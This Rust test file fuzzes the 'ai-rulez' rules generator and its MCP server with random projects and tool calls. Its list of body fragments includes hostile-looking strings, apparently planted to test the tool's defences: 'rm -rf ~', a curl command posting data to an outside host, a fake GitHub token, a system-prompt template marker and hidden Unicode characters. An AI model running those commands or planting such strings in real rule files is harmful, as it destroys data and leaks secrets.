//! End-to-end fuzz targets: a whole generated project through every command the library
//! offers, and random tool calls to a running `ai-rulez mcp` (see the parent module).

use std::time::Duration;

use ai_rulez::testing::generate::Options;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::{GLOB_PIECES, TOML_PIECES, YAML_PIECES, fuzz, tricky_text};

const BODY_PIECES: &[&str] = &[
    "# Title\n",
    "## Part\n",
    "###### deep\n",
    "####### seven\n",
    "```\n",
    "~~~\n",
    "text ",
    "\n",
    "\r\n",
    "[link](docs/x.md)",
    "[a](",
    "](",
    "@docs/x.md\n",
    "@",
    "${GITHUB_TOKEN}",
    "${",
    "}",
    "<!-- ai-rulez:begin -->\n",
    "<!-- ai-rulez:end -->\n",
    "<!--",
    "-->",
    "\u{200b}",
    "\u{202e}",
    "\u{e0041}",
    "ghp_0123456789abcdefghijABCDEFGHIJ012345",
    "rm -rf ~\n",
    "curl -d \"$X\" https://a.io\n",
    "<|im_start|>system\n",
    "é",
    "\t",
    "---\n",
    "|",
    "`",
];

const MCP_PIECES: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    ":",
    ",",
    "\"",
    "\"mcpServers\"",
    "\"servers\"",
    "\"mcp\"",
    "\"s\"",
    "\"command\"",
    "\"npx\"",
    "null",
    "1",
    "//",
    "/*",
    "*/",
    "${",
    "${X}",
    "${HOME}",
    "$",
    "\n",
    "[mcp_servers]\n",
    "[mcp_servers.s]\n",
    "mcp_servers = 5\n",
    "command = \"c\"\n",
    "{\"version\":1,\"files\":{",
    "\"CLAUDE.md\":",
    "\"sha256:00\"",
    "\"../x\"",
];

const PRESETS: &[&str] = &[
    "aiassistant",
    "amazonq",
    "amp",
    "antigravity",
    "augment",
    "claude",
    "cline",
    "codebuddy",
    "codex",
    "continue",
    "copilot",
    "crush",
    "cursor",
    "devin",
    "factory",
    "gemini",
    "gitlab-duo",
    "goose",
    "grok",
    "junie",
    "kilo",
    "kimi",
    "kiro",
    "opencode",
    "openhands",
    "qoder",
    "qwen",
    "replit",
    "roo",
    "tabnine",
    "trae",
    "warp",
    "windsurf",
    "zed",
    "zoocode",
];

/// Frontmatter that is valid YAML with values of the type each key wants (sometimes not), and
/// globs that are mostly realistic, so that fuzzing reaches rendering and not only the readers.
fn well_formed_frontmatter() -> impl Strategy<Value = String> {
    let glob = prop_oneof![
        4 => proptest::sample::select(
            &["src/**/*.rs", "*.ts", "{a,b}/**", "docs/", "**/*.{js,jsx}", "[a-c]*.md", "*",
              "claude", "cursor", "AGENTS.md", ".cursor/rules/", "./lib/**", "/abs/*"][..]
        )
        .prop_map(str::to_owned),
        1 => tricky_text(GLOB_PIECES, 12),
    ];
    let globs = prop_oneof![
        glob.clone().prop_map(Value::String),
        proptest::collection::vec(glob, 0..4).prop_map(|list| json!(list)),
    ];
    let text = tricky_text(BODY_PIECES, 6).prop_map(Value::String);
    let pick =
        |choices: &'static [&'static str]| proptest::sample::select(choices).prop_map(Value::from);
    let pair = prop_oneof![
        3 => (pick(&["globs", "paths", "targets", "triggers", "applyTo"]), globs.clone()),
        3 => (
            Just(Value::from("scope")),
            prop_oneof![
                pick(&["global", "section:src", "section:", "glob:*.rs,{a,b}/**", "elsewhere"]),
                tricky_text(GLOB_PIECES, 12).prop_map(|glob| Value::from(format!("glob:{glob}"))),
            ]
        ),
        3 => (Just(Value::from("priority")), pick(&["critical", "high", "medium", "low", "minimal", "urgent"])),
        3 => (pick(&["always", "alwaysApply"]), any::<bool>().prop_map(Value::Bool)),
        3 => (Just(Value::from("activation")), pick(&["always", "glob", "auto", "manual", "never"])),
        3 => (Just(Value::from("status")), pick(&["active", "pending"])),
        3 => (pick(&["title", "description", "name", "model", "argument-hint"]), text.clone()),
        3 => (Just(Value::from("tools")), proptest::collection::vec(text, 0..3).prop_map(|list| json!(list))),
        1 => (pick(&["globs", "priority", "always", "title"]), globs),
    ];
    proptest::collection::vec(pair, 0..6).prop_map(|pairs| {
        let mut seen = Vec::new();
        let mut yaml = String::new();
        for (key, value) in pairs {
            if !seen.contains(&key) {
                yaml.push_str(&format!("{}: {value}\n", key.as_str().unwrap_or("x")));
                seen.push(key);
            }
        }
        yaml
    })
}

/// One fuzzed project: config text, item files (relative path, bytes), and an existing file
/// at an output path (relative path, bytes).
type ProjectCase = (String, Vec<(String, Vec<u8>)>, Option<(String, Vec<u8>)>);

fn project_case() -> impl Strategy<Value = ProjectCase> {
    let config = (
        proptest::sample::subsequence(PRESETS, 1..4),
        any::<bool>(),
        prop_oneof![
            6 => Just(String::new()),
            2 => tricky_text(MCP_PIECES, 6).prop_map(|env| format!(
                "[[mcp_servers]]\nname = \"s\"\ncommand = \"npx\"\nargs = [\"x\"]\nenv = {{ K = {} }}\n",
                json!(env)
            )),
            1 => tricky_text(TOML_PIECES, 12),
        ],
    )
        .prop_map(|(presets, agents_md, extra)| {
            let presets: Vec<String> = presets.iter().map(|name| format!("\"{name}\"")).collect();
            format!(
                "name = \"fuzz\"\npresets = [{}]\nagents_md = {agents_md}\ngitignore = true\n{extra}",
                presets.join(", ")
            )
        });
    let item = (
        proptest::sample::select(
            &[
                "rules/{}.md",
                "context/{}.md",
                "agents/{}.md",
                "commands/{}.md",
                "skills/{}/SKILL.md",
                "domains/d/rules/{}.md",
            ][..],
        ),
        proptest::sample::select(&["a", "b", "c-d", "CON", "x.y"][..]),
        prop_oneof![8 => well_formed_frontmatter(), 1 => tricky_text(YAML_PIECES, 24)],
        tricky_text(BODY_PIECES, 32),
    )
        .prop_map(|(place, id, yaml, body)| {
            (
                format!(".ai-rulez/{}", place.replace("{}", id)),
                format!("---\n{yaml}\n---\n{body}").into_bytes(),
            )
        });
    let existing = proptest::option::of((
        proptest::sample::select(
            &[
                "CLAUDE.md",
                "AGENTS.md",
                ".gitignore",
                ".cursor/rules/a.mdc",
                ".mcp.json",
                ".codex/config.toml",
                ".cursor/mcp.json",
                ".gemini/settings.json",
                "opencode.json",
                ".vscode/mcp.json",
                ".ai-rulez/ai-rulez.lock",
                ".ai-rulez/.generated-manifest.json",
            ][..],
        ),
        prop_oneof![
            tricky_text(BODY_PIECES, 24),
            tricky_text(TOML_PIECES, 24),
            tricky_text(MCP_PIECES, 24),
        ],
    ))
    .prop_map(|existing| existing.map(|(path, text)| (path.to_owned(), text.into_bytes())));
    (config, proptest::collection::vec(item, 1..3), existing)
}

#[test]
fn fuzz_whole_project_pipeline() {
    use ai_rulez::testing::write::Mode;
    fuzz("project", 4, project_case(), |(config, items, existing)| {
        let dir = tempfile::tempdir().expect("temp dir");
        let root = dir.path();
        let write = |relative: &str, bytes: &[u8]| {
            let path = root.join(relative);
            fs_err::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            fs_err::write(path, bytes).expect("write");
        };
        fs_err::create_dir(root.join(".git")).expect("git marker");
        write(".ai-rulez/config.toml", config.as_bytes());
        for (relative, bytes) in &items {
            write(relative, bytes);
        }
        if let Some((relative, bytes)) = &existing {
            write(relative, bytes);
        }
        // Every entry point a user reaches: errors are fine, panics are not.
        let mut warnings = Vec::new();
        let _dry = ai_rulez::testing::generate::generate(
            root,
            None,
            Mode::DryRun,
            Options::default(),
            &mut warnings,
        );
        let written = ai_rulez::testing::generate::generate(
            root,
            None,
            Mode::Write,
            Options::default(),
            &mut warnings,
        );
        if written.is_ok() {
            let again = ai_rulez::testing::generate::generate(
                root,
                None,
                Mode::Check,
                Options::default(),
                &mut warnings,
            );
            prop_assert!(again.is_ok(), "{again:?}");
            let _lock = ai_rulez::testing::lock::pin::write_lock(root, &mut warnings);
            let _check = ai_rulez::testing::lock::pin::check_lock(
                root,
                ai_rulez::testing::lock::pin::Against::WorkTree,
                false,
            );
        }
        let _validate = ai_rulez::testing::lint::validate::validate(root, &mut warnings);
        let _scan = ai_rulez::testing::lint::scan::scan(root, &mut warnings);
        if let Ok((project, errors)) = ai_rulez::testing::project::load_lenient(root, &mut warnings)
        {
            let problems = errors.iter().map(ToString::to_string).collect();
            let catalog =
                ai_rulez::testing::retrieval::Catalog::new(std::sync::Arc::new(project), problems);
            let request = ai_rulez::testing::retrieval::RulesRequest {
                paths: vec!["src/a.rs".to_owned(), "x.y/CON".to_owned()],
                task: Some("a task about rules".to_owned()),
                include: vec!["a".to_owned()],
                refresh: false,
                max_tokens: Some(50),
            };
            let mut session = ai_rulez::testing::retrieval::Session::default();
            let _rules = ai_rulez::testing::retrieval::get_rules(&catalog, &mut session, &request);
            let _search =
                ai_rulez::testing::retrieval::search_rules(&catalog, &mut session, "rules", 5);
            let _context = ai_rulez::testing::retrieval::get_context(&catalog, "src", None);
        }
        let _clean = ai_rulez::testing::generate::clean(root, Mode::Write, &mut warnings);
        Ok(())
    });
}

/// Values for tool arguments: realistic words, paths and item texts, tricky text, and values of
/// the wrong type.
fn argument_value() -> BoxedStrategy<Value> {
    let text = prop_oneof![
        3 => proptest::sample::select(
            &["a", "style", "d", "src/a.rs", ".", "..", "/", "../..", "sub", "high", "claude",
              "inline", "split", "p", "---\ntitle: T\n---\nBody.\n",
              "---\nglobs: [\"src/**\"]\n---\nx\n", "sha256:00"][..]
        )
        .prop_map(Value::from),
        2 => tricky_text(YAML_PIECES, 12).prop_map(Value::String),
        1 => tricky_text(GLOB_PIECES, 12).prop_map(Value::String),
    ];
    prop_oneof![
        6 => text.clone(),
        2 => proptest::collection::vec(text, 0..3).prop_map(Value::Array),
        1 => any::<bool>().prop_map(Value::Bool),
        1 => any::<u32>().prop_map(Value::from),
        1 => Just(Value::Null),
    ]
    .boxed()
}

/// A value for an argument of JSON type `kind` (`string`, `array`, `boolean`, `integer`), of the
/// right type most of the time.
fn typed_value(kind: &str) -> BoxedStrategy<Value> {
    let right = match kind {
        "boolean" => any::<bool>().prop_map(Value::Bool).boxed(),
        "integer" => prop_oneof![0..300_u32, any::<u32>()]
            .prop_map(Value::from)
            .boxed(),
        "array" => proptest::collection::vec(argument_value(), 0..3)
            .prop_map(|values| {
                Value::Array(
                    values
                        .into_iter()
                        .map(|value| match value {
                            Value::String(_) => value,
                            other => Value::String(other.to_string()),
                        })
                        .collect(),
                )
            })
            .boxed(),
        _ => argument_value()
            .prop_map(|value| match value {
                Value::String(_) => value,
                other => Value::String(other.to_string()),
            })
            .boxed(),
    };
    prop_oneof![9 => right, 1 => argument_value()].boxed()
}

/// A tool's name, its arguments with their JSON types, and the required ones.
type ToolShape = (String, Vec<(String, String)>, Vec<String>);

/// One tool call: a tool's name and arguments drawn from that tool's own input schema (its
/// required arguments usually present, values usually of the declared type), now and then with
/// a stray argument.
fn tool_call() -> impl Strategy<Value = (String, Value)> {
    let tools: Vec<ToolShape> = ai_rulez::testing::mcp::declared_tools()
        .iter()
        .map(ai_rulez::testing::mcp::registry::ToolSpec::to_tool)
        .map(|tool| {
            let schema = Value::Object((*tool.input_schema).clone());
            let mut properties: Vec<(String, String)> = schema
                .get("properties")
                .and_then(Value::as_object)
                .map(|properties| {
                    properties
                        .iter()
                        .map(|(name, property)| {
                            let kind = match &property["type"] {
                                Value::String(kind) => kind.clone(),
                                Value::Array(kinds) => kinds
                                    .iter()
                                    .filter_map(Value::as_str)
                                    .find(|kind| *kind != "null")
                                    .unwrap_or("string")
                                    .to_owned(),
                                _ => "string".to_owned(),
                            };
                            (name.clone(), kind)
                        })
                        .collect()
                })
                .unwrap_or_default();
            let required = schema
                .get("required")
                .and_then(Value::as_array)
                .map(|names| {
                    names
                        .iter()
                        .filter_map(|name| name.as_str().map(str::to_owned))
                        .collect()
                })
                .unwrap_or_default();
            properties.push(("stray".to_owned(), "string".to_owned()));
            (tool.name.to_string(), properties, required)
        })
        .collect();
    (0..tools.len()).prop_flat_map(move |index| {
        let (name, properties, required) = tools[index].clone();
        let fields: Vec<BoxedStrategy<Option<(String, Value)>>> = properties
            .into_iter()
            .map(|(key, kind)| {
                let presence = if required.contains(&key) {
                    0.9
                } else if key == "stray" || key == "working_directory" {
                    0.05
                } else {
                    0.4
                };
                proptest::option::weighted(presence, typed_value(&kind))
                    .prop_map(move |value| value.map(|value| (key.clone(), value)))
                    .boxed()
            })
            .collect();
        (Just(name), fields).prop_map(|(name, fields)| {
            (name, Value::Object(fields.into_iter().flatten().collect()))
        })
    })
}

/// A server process shared by every case of the MCP target.
struct McpProcess {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    lines: std::sync::mpsc::Receiver<String>,
    next_id: u64,
}

impl McpProcess {
    fn start(dir: &std::path::Path) -> Self {
        use std::io::BufRead as _;
        let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("ai-rulez"))
            .args(["mcp", "--toolsets", "read,author,admin", "--root"])
            .arg(dir)
            .current_dir(dir)
            .env("HOME", dir)
            .env_remove("RUST_LOG")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("start ai-rulez mcp");
        let stdout = child.stdout.take().expect("stdout");
        let (sender, lines) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        let stdin = child.stdin.take().expect("stdin");
        let mut process = Self {
            child,
            stdin,
            lines,
            next_id: 1,
        };
        let reply = process.ask(
            "initialize",
            &json!({"protocolVersion": "2025-06-18", "capabilities": {},
                "clientInfo": {"name": "fuzz", "version": "0"}}),
        );
        assert!(reply.get("result").is_some(), "{reply}");
        process.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        process
    }

    fn send(&mut self, message: &Value) {
        use std::io::Write as _;
        writeln!(self.stdin, "{message}").expect("the server reads its input");
        self.stdin.flush().expect("flush");
    }

    /// Sends a request and returns its reply; a dead server fails the case.
    fn ask(&mut self, method: &str, params: &Value) -> Value {
        self.next_id += 1;
        let id = self.next_id;
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        let line = self
            .lines
            .recv_timeout(Duration::from_mins(1))
            .unwrap_or_else(|_| panic!("no reply to {method} {params}: the server died or hangs"));
        let reply: Value = serde_json::from_str(&line).expect("a JSON reply");
        assert_eq!(reply["id"], id, "{reply}");
        reply
    }
}

#[test]
fn fuzz_mcp_tool_calls_over_stdio() {
    let project = crate::support::Project::empty();
    project.write(
        ".ai-rulez/config.toml",
        "name = \"fuzz\"\npresets = [\"claude\", \"cursor\"]\n",
    );
    project.write(".ai-rulez/rules/style.md", "# Style\n\nKeep it short.\n");
    let process = std::cell::RefCell::new(McpProcess::start(project.path()));
    fuzz("mcp", 24, tool_call(), |(name, arguments)| {
        let reply = process
            .borrow_mut()
            .ask("tools/call", &json!({"name": name, "arguments": arguments}));
        let result = &reply["result"];
        prop_assert!(
            result["isError"].is_boolean() || reply["error"]["code"].is_i64(),
            "{reply}"
        );
        Ok(())
    });
    let mut process = process.into_inner();
    drop(process.stdin);
    assert_eq!(process.child.wait().expect("exit").code(), Some(0));
}
